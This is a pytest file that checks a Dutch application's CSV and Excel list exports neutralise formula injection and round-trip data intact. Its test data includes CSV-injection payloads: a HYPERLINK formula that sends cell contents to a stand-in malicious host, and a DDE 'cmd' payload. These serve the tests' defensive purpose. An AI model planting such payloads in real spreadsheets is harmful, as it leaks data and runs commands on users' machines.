"""Lists out and in again: nothing runs in a spreadsheet, and everything comes back as it was."""

from __future__ import annotations

import io
import tempfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from desktop.application.exports.lists import Sheet, as_csv, as_workbook
from desktop.application.formulas import neutral, original
from desktop.application.i18n import Language, language
from desktop.application.imports.reading import read
from desktop.domain.errors import Refused

NL = language("nl")
MEAN = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠x", " =1+1", "\u200b=1", "'=1",
    '=HYPERLINK("http://kwaad.voorbeeld/?"&A1)', "=cmd|' /C calc'!A0", "+31612345678", "-5",
]  # fmt: skip
HARMLESS = ["Jan", "'t Hof", "van 't Hof", "1-3-1984", "a=b", "", "jan@voorbeeld.nl", "O'Connor"]

Export = Callable[[Sheet, Language], bytes]


@pytest.mark.parametrize("text", MEAN)
def test_no_text_is_left_that_a_spreadsheet_would_run(text: str) -> None:
    written = as_csv(Sheet("Lijst", ("kolom",), [(text,)]), NL).decode("utf-8-sig").splitlines(keepends=True)
    assert "".join(written[1:]).lstrip('"').startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text == original(text)


@given(st.text(max_size=20) | st.sampled_from(MEAN + HARMLESS))
def test_every_text_comes_back_exactly(text: str) -> None:
    assert original(neutral(text)) == text


@pytest.mark.parametrize("text", MEAN)
def test_a_workbook_has_texts_and_no_formulas(text: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(as_workbook(Sheet("Lijst", ("kolom",), [(text,)]), NL)))
    cell = book.active["A2"]
    assert cell.data_type == "s"
    assert cell.value[0] not in "=@\t\r＝＋－＠"
    assert cell.quotePrefix


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@pytest.mark.parametrize("export", [as_csv, as_workbook])
@given(st.lists(st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zs", "Cf", "Cn", "Co"]),
                        min_size=1, max_size=12) | st.sampled_from(["+31612345678", "=1+1", "-5", "'=1"]),
                min_size=2, max_size=2))  # fmt: skip
def test_what_goes_out_comes_in_again_as_it_was(export: Export, tmp_path: Path, texts: list[str]) -> None:
    path = tmp_path / "lijst"
    path.write_bytes(export(Sheet("Lijst", ("Naam", "Telefoon"), [texts]), NL))
    sheet = read(path, lambda text: float(text in ("Naam", "Telefoon")))
    assert list(sheet.lines[0].cells) == [text.strip() for text in texts]


@pytest.mark.parametrize("export", [as_csv, as_workbook])
def test_dates_numbers_and_phones_survive_the_round_trip(export: Export, tmp_path: Path) -> None:
    row = ("Zoë d’Hondt", "+31612345678", date(1984, 3, 1), 12, Decimal("36.5"), True, None)
    header = ("Naam", "Telefoon", "Geboortedatum", "Huisnummer", "Uren", "Akkoord", "Leeg")
    path = tmp_path / "lijst"
    path.write_bytes(export(Sheet("Lijst", header, [row]), NL))
    cells = read(path, lambda text: float(text in header)).lines[0].cells
    assert cells[:2] == ("Zoë d’Hondt", "+31612345678")
    assert cells[2] in ("01-03-1984", "1984-03-01")
    assert (cells[3], cells[4].replace(".", ",")) == ("12", "36,5")
    assert cells[5] in ("Ja", "Yes")


def test_excel_opens_the_csv_in_the_right_columns_and_letters() -> None:
    written = as_csv(Sheet("Lijst", ("Naam", "Plaats"), [("Zoë; of Zoé", "Oefenstad")]), NL)
    assert written.startswith(b"\xef\xbb\xbfNaam;Plaats\r\n")
    assert '"Zoë; of Zoé";Oefenstad' in written.decode()


def test_a_moment_is_shown_where_the_desk_is() -> None:
    noon = datetime(2026, 7, 1, 10, 0, tzinfo=UTC)
    assert "01-07-2026 12:00" in as_csv(Sheet("Lijst", ("Wanneer",), [(noon,)]), NL).decode()


def test_a_text_that_excel_would_cut_off_is_refused() -> None:
    with pytest.raises(Refused, match="would be cut off"):
        as_workbook(Sheet("Lijst", ("Tekst",), [("x" * 40_000,)]), NL)


def test_any_title_makes_a_sheet() -> None:
    book = openpyxl.load_workbook(io.BytesIO(as_workbook(Sheet("Caseload [1/2]: " + "x" * 40, ("a",), []), NL)))
    assert book.sheetnames[0].startswith("Caseload")


def test_a_workbook_is_made_without_a_file_anybody_could_read(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "nowhere"))
    assert as_workbook(Sheet("Lijst", ("Naam",), [("Zoë Bedacht",)]), NL)
